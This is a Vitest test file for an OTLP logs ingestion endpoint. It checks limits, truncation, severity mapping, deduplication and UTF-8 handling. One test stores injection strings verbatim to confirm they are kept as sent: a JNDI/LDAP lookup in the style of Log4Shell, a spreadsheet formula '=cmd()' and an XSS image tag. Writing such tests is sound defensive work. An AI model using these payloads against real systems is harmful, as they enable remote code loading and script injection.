import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { DEFAULT_INGEST_LIMITS } from '../../../functions/ingest/limits.ts';
import { attributes, type Json, logsRequest, nanos } from './otlp-request.ts';
import { FORMS, type OtlpStreet, openOtlpStreet } from './otlp-street.ts';
import { NOW_MS } from './write-request.ts';

const STORED = { http: 200, rejected: 0, message: '' };

let street: OtlpStreet;

beforeAll(async () => {
  street = await openOtlpStreet();
});
afterAll(() => street.close());
beforeEach(async () => {
  await street.lines();
  street.discarded.clear();
});

let made = 0;
/** A time of its own for each record, as a request that was stored before is not stored again. */
const record = (more: Json): Json => ({ timeUnixNano: nanos(NOW_MS - made++), severityNumber: 9, ...more });
const text = (line: string): Json => ({ body: { stringValue: line } });

describe.each(FORMS)('OTLP logs as %s', (form) => {
  const send = (...records: readonly Json[]) => street.send(form, 'logs', logsRequest(records));

  /** Refused, while the good one beside it is stored. */
  async function expectPartial(bad: Json, reason: string): Promise<void> {
    const answer = await send(bad, record(text('good')));
    expect(answer).toMatchObject({ http: 200, rejected: 1 });
    expect(answer.message).toContain(`1 rejected: ${reason} (1); resourceLogs[0].scopeLogs[0].logRecords[0]: `);
    expect(await street.lines()).toEqual(['info good']);
    expect(street.discardedOf(reason)).toBe(1);
  }

  test.each([{}, { resourceLogs: [{}, { scopeLogs: [{}] }] }])(
    'O01 nothing to store is a success: %j',
    async (json) => {
      expect(await street.send(form, 'logs', json)).toMatchObject({ ...STORED, bodyBytes: form === 'json' ? 2 : 0 });
    },
  );

  test('O08 without a time the record has that of its observation, else that of its arrival', async () => {
    const observed = NOW_MS - 60_000 - made++;
    const none = { timeUnixNano: '0' };
    await send(
      record({ ...none, observedTimeUnixNano: nanos(observed), ...text('observed') }),
      record({ ...none, ...text('arrived') }),
      record({ ...none, ...text('arrived') }),
    );
    const records = (await street.drain()).flatMap(({ logs }) => logs).flatMap((stream) => stream.records);
    expect(records.map(({ timestampMs, line }) => [timestampMs, line])).toEqual([
      [observed, 'observed'],
      [NOW_MS, 'arrived'],
      [NOW_MS, 'arrived'],
    ]);
  });

  test('O10 a time too far ahead is rejected', async () => {
    await expectPartial(record({ timeUnixNano: nanos(NOW_MS + 601_000) }), 'timestamp_too_far_ahead');
  });

  test('O18 129 attributes are rejected', async () => {
    const many = Object.fromEntries(Array.from({ length: 129 }, (_, i) => [`k${i}`, 'v']));
    await expectPartial(record({ attributes: attributes(many), ...text('x') }), 'attributes_too_many');
  });

  test('O23 with no good record the request is refused', async () => {
    const answer = await send(record({ timeUnixNano: nanos(NOW_MS + 601_000) }));
    expect(answer).toMatchObject({
      http: 400,
      code: 3,
      violations: [{ field: 'resourceLogs[0].scopeLogs[0].logRecords[0]' }],
    });
  });

  test('O24 10,001 records are too large', async () => {
    const records = Array.from({ length: 10_001 }, () => record(text('x')));
    expect(await send(...records)).toMatchObject({ http: 413, code: 8 });
  });

  test('O25 a body of 1 MB is cut at the limit of a line, which the answer says and the count keeps', async () => {
    const answer = await send(record(text(`x${'ä'.repeat(500_000)}`)));
    expect(answer).toMatchObject({ http: 200, rejected: 0 });
    expect(answer.message).toContain('1 log lines were longer than 65536 bytes and are cut');
    const [line = ''] = await street.lines();
    expect(Buffer.byteLength(line.slice('info '.length))).toBe(DEFAULT_INGEST_LIMITS.logLineBytes - 1);
    expect(line).not.toContain('\ufffd');
    expect(street.discardedOf('line_truncated')).toBe(1);
  });

  test('O25 a nested map is flattened, bytes become base64, an array JSON, and nothing stays nothing', async () => {
    const map = {
      kvlistValue: {
        values: [
          { key: 'msg', value: { stringValue: 'two words' } },
          { key: 'user', value: { kvlistValue: { values: [{ key: 'id', value: { intValue: '7' } }] } } },
        ],
      },
    };
    const answer = await send(
      record({ body: map }),
      record({ body: { bytesValue: 'AAEC' } }),
      record({ body: { arrayValue: { values: [{ stringValue: 'a' }, { doubleValue: 0.5 }] } } }),
      record({ eventName: 'page.view' }),
      record({}),
    );
    expect(answer).toMatchObject(STORED);
    expect((await street.lines()).toSorted()).toEqual([
      'info ',
      'info AAEC',
      'info ["a",0.5]',
      'info msg="two words" user.id=7',
      'info page.view',
    ]);
  });

  test.each([
    [1, '', 'trace'],
    [8, '', 'debug'],
    [9, 'ERROR', 'info'],
    [16, '', 'warn'],
    [17, '', 'error'],
    [24, '', 'fatal'],
    [0, 'Warning', 'warn'],
    [0, '', 'unknown'],
  ])('severity number %d with text %j is %s', async (severityNumber, severityText, expected) => {
    await send(record({ severityNumber, severityText, ...text('x') }));
    expect(await street.lines()).toEqual([`${expected} x`]);
  });

  test('O26 severity 99 is unknown', async () => {
    expect(await send(record({ severityNumber: 99, severityText: '', ...text('x') }))).toMatchObject(STORED);
    expect(await street.lines()).toEqual(['unknown x']);
  });

  test('O26 a trace id of 7 bytes is dropped with a warning', async () => {
    const traceId = form === 'json' ? 'ab'.repeat(7) : Buffer.alloc(7, 1).toString('base64');
    const answer = await send(record({ traceId, ...text('x') }));
    expect(answer).toMatchObject({ http: 200, rejected: 0 });
    expect(answer.message).toContain('traceId');
    expect(await street.lines()).toEqual(['info x']);
  });

  test.each([
    '\u001b[31mred\u001b[0m',
    'null\u0000byte',
    '\u202eright to left',
    '\u0024{jndi:ldap://example.com/a}',
    '=cmd()',
    '<img src=x onerror=alert(1)>',
  ])('O27 the line %j is stored as it came', async (line) => {
    expect(await send(record(text(line)))).toMatchObject(STORED);
    expect(await street.lines()).toEqual([`info ${line}`]);
  });

  test('the same record again counts once', async () => {
    const same = record(text('same'));
    await send(same, { ...same });
    expect(await street.lines()).toEqual(['info same']);
    expect(street.discardedOf('duplicate')).toBe(1);
  });

  test('few attributes of the resource are the labels of the stream', async () => {
    const resource = {
      'service.name': 'cart',
      'service.instance.id': 'random',
      'host.name': 'a',
      'k8s.pod.uid': 'x',
      'k8s.namespace.name': 'shop',
    };
    await street.send(form, 'logs', logsRequest([record(text('x'))], resource));
    const [stream] = (await street.drain()).flatMap(({ logs }) => logs);
    expect(Object.fromEntries(stream?.labels ?? [])).toEqual({
      host_name: 'a',
      k8s_namespace_name: 'shop',
      service: 'cart',
    });
  });
});

test('O26 an id that is no hexadecimal number is dropped with a warning', async () => {
  const answer = await street.send('json', 'logs', logsRequest([record({ spanId: 'not hex!', ...text('x') })]));
  expect(answer).toMatchObject({ http: 200, rejected: 0 });
  expect(answer.message).toContain('spanId');
});

test('O27 half a surrogate pair is stored as the mark for what cannot be read, and counted', async () => {
  const body = JSON.stringify(logsRequest([record(text('half HALF'))])).replace('HALF', '\\ud83d');
  expect(await street.sendBytes('json', 'logs', body)).toMatchObject(STORED);
  expect(await street.lines()).toEqual(['info half \ufffd']);
  expect(street.discardedOf('utf8_replaced')).toBe(1);
});

test('a body of protobuf that is not UTF-8 is rejected', async () => {
  const bad = Buffer.from([0x2a, 0x04, 0x0a, 0x02, 0xff, 0xfe]);
  const log = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from([0x12, bytes.length]), bytes]);
  const scope = log(bad);
  const resource = Buffer.concat([Buffer.from([0x12, scope.length]), scope]);
  const request = Buffer.concat([Buffer.from([0x0a, resource.length]), resource]);
  expect(await street.sendBytes('protobuf', 'logs', request)).toMatchObject({ http: 400, code: 3 });
  expect(street.discardedOf('utf8_invalid')).toBe(1);
});
